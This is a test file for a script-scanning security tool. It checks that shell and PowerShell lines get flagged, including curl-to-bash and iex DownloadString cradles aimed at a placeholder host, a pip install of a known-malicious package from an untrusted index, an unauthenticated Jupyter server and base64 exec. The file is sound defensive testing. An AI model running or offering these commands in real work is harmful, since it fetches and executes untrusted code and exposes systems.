import { expect, it } from 'vitest';
import { alarms, rulesOf, scanText } from '../testing/workspace.ts';

it('reads the commands of scripts, over lines, with what they set and install', () => {
  const text = [
    '#!/usr/bin/env bash',
    '# curl http://example.invalid/a | sh',
    'export OPENAI_API_KEY=abcdEFGH1234ijkl5678',
    'curl -s http://example.invalid/a |',
    '  bash',
    'pip install --index-url http://example.invalid/simple torchtriton',
    "jupyter lab --ip=0.0.0.0 --NotebookApp.token=''",
    'python3 -c "import base64; exec(base64.b64decode(\'cHJpbnQoMSk=\'))"',
  ].join('\n');
  const { findings, format } = scanText('start.sh', text);
  expect(format).toBe('script');
  expect(findings.filter(({ severity }) => severity !== 'low').map(({ rule, line }) => `${rule} ${line}`)).toEqual([
    'deploy.plain-secret 3',
    'deploy.hostile-command 4',
    'packages.insecure-source 6',
    'packages.known-bad 6',
    'deploy.open-server 7',
    'deploy.hostile-command 8',
    'python.hidden-code 8',
  ]);
  expect(JSON.stringify(findings)).not.toContain('ijkl5678');
  expect(scanText('start.bash', text.replace(/^.*\n/, '')).format).toBe('shell');
});

it('knows scripts of Windows', () => {
  expect(alarms('a.ps1', 'iex (New-Object Net.WebClient).DownloadString("http://example.invalid/a")\r\n')).toEqual([
    'medium deploy.hostile-command',
  ]);
});

it('lets ordinary scripts pass', () => {
  const text = [
    '#!/bin/sh',
    'set -eu',
    ': "${OPENAI_API_KEY:?set it}"',
    'curl -LsSf https://astral.sh/uv/install.sh | sh',
    'python -m pip install -r requirements.txt "torch==2.4.0"',
    'rm -rf ./build /tmp/cache-dir',
    'TOKEN="$(cat /run/secrets/token)"',
    'SECRET=$(generate_secret --long)',
    'AUTH=--user="$WSREP_USER"',
    'exec uvicorn main:app --host 127.0.0.1',
  ].join('\n');
  expect(alarms('start.sh', text)).toEqual([]);
  expect(rulesOf('a.sh', 'echo "a | b"\n')).toEqual([]);
});
